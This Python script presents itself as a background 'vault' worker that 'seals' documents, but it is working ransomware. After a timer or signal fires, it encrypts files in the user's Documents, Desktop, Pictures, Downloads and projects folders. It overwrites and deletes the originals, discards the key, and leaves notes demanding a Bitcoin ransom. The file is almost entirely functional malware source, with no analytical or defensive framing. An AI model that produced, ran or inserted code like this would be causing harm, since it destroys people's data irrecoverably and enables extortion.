#!/usr/bin/env python3
"""Background "vault" worker. Idles until SIGUSR1 (or the deadline) fires,
then seals the user's documents: every file is encrypted, written next to
the original with a .sealed suffix, and the plaintext is removed.
"""
import argparse
import concurrent.futures
import logging
import os
import signal
import threading
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("vault")
TRIGGER = threading.Event()
TARGET_DIRS = ("Documents", "Desktop", "Pictures", "Downloads", "projects")
SKIP_SUFFIXES = {".sealed", ".so", ".pyc"}
NOTE = """Your files have been sealed with a key only we hold.
To recover them send 0.05 BTC to the address below and mail your ID to
recover@vault-help.example. ID: {ident}
"""


def _on_usr1(signum, frame):
    TRIGGER.set()


def candidates(home: Path):
    for top in TARGET_DIRS:
        base = home / top
        if not base.is_dir():
            continue
        for root, dirs, files in os.walk(base):
            dirs[:] = [d for d in dirs if not d.startswith(".")]
            for name in files:
                path = Path(root) / name
                if path.suffix not in SKIP_SUFFIXES and path.stat().st_size < 512 * 2**20:
                    yield path


def seal_one(path: Path, cipher: Fernet) -> bool:
    try:
        data = path.read_bytes()
        sealed = path.with_name(path.name + ".sealed")
        sealed.write_bytes(cipher.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(os.urandom(min(len(data), 4096)))
        path.unlink()
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def seal_all(home: Path, workers: int) -> int:
    key = Fernet.generate_key()
    cipher = Fernet(key)
    ident = key[:16].decode()
    done = 0
    with concurrent.futures.ThreadPoolExecutor(max_workers=workers) as pool:
        for ok in pool.map(lambda p: seal_one(p, cipher), candidates(home)):
            done += ok
    for top in TARGET_DIRS:
        if (home / top).is_dir():
            (home / top / "READ_ME_TO_RECOVER.txt").write_text(NOTE.format(ident=ident))
    del key, cipher
    return done


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--deadline", type=float, default=3600, help="seconds before auto-trigger")
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 4)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)
    signal.signal(signal.SIGUSR1, _on_usr1)
    threading.Timer(args.deadline, TRIGGER.set).start()
    TRIGGER.wait()
    count = seal_all(Path.home(), args.workers)
    log.warning("sealed %d files", count)
    os._exit(0)


if __name__ == "__main__":
    main()
